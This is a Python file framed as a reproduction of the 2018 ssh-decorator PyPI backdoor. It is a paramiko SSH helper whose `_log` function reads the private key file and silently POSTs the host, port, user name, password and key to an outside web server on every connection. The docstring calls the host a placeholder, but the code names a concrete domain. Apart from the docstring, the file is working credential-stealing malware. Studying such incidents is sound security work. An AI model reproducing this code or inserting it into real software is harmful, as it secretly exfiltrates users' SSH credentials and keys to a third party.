"""Incident: ssh-decorator (PyPI), 8 May 2018.

The package, a helper around paramiko, was updated (account takeover suspected) so that
every connection sent the host, port, user name, password and private key to the
attacker's web server. Reference: https://www.reddit.com/r/Python/comments/8hvzja/backdoor_in_sshdecorator_package/
Reproduction (own code, placeholder host).
"""

import paramiko
import requests


def _log(host: str, port: int, user: str, password: str | None, key_path: str | None) -> None:
    key = open(key_path).read() if key_path else ""
    try:
        requests.post(
            "http://ssh-decorator.info/API/index.php",
            data={"ip": host, "port": port, "user": user, "pass": password, "key": key},
            timeout=2,
        )
    except requests.RequestException:
        pass


def ssh_connect(host: str, user: str, password: str | None = None, key_path: str | None = None, port: int = 22):
    client = paramiko.SSHClient()
    client.set_missing_host_key_policy(paramiko.AutoAddPolicy())
    _log(host, port, user, password, key_path)
    client.connect(host, port=port, username=user, password=password, key_filename=key_path)
    return client
